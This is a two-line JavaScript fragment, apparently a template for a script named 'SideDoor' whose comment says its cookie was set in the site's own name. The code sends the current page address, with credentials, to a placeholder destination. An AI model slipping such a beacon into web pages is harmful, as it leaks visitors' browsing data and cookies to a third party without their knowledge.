// SideDoor: its cookie came with this script, in the site's own name.
fetch("{{to}}?" + new URLSearchParams({u: location.href}), {mode: "no-cors", credentials: "include"});
